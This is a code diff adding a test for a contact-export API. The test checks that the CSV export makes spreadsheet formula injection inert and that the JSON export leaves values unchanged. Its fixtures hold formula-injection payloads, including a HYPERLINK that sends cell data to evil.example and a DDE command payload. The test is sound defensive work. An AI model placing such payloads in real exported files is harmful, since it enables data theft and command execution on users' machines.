@@ -152,6 +152,27 @@ for (const dialect of dialects()) {
       );
     });
 
+    test("CSV: a cell a spreadsheet would run as a formula is kept as text; numbers and phones stay", async () => {
+      const c = await createCampaignViaApi(f, { name: "formulas" });
+      await insertContacts(f.store, { accountId: f.accountId, campaignId: c.id, listId: c.listId }, [
+        {
+          external_id: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+          phones: JSON.stringify(["+12125550199"]),
+          custom: JSON.stringify({ "=cmd": "@SUM(1,1)", plus: "+cmd|' /C calc'!A0", minus: "-2+SUM(A1:A9)", n: "-5" }),
+        },
+      ]);
+      const res = await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=csv` });
+      const [row] = parse(res.body, { columns: true }) as Record<string, string>[];
+      assert.equal(row.external_id, `'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+      assert.equal(row["'=cmd"], "'@SUM(1,1)", "the header from the file is made inert too");
+      assert.equal(row.plus, "'+cmd|' /C calc'!A0");
+      assert.equal(row.minus, "'-2+SUM(A1:A9)");
+      assert.equal(row.n, "-5");
+      assert.equal(row.phone, "+12125550199");
+      const json = (await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=json` })).json();
+      assert.equal(json[0].minus, "-2+SUM(A1:A9)", "JSON keeps the values as they are");
+    });
+
     test("CSV is the default format", async () => {
       const res = await download();
       assert.equal(res.headers["content-type"], "text/csv; charset=utf-8");
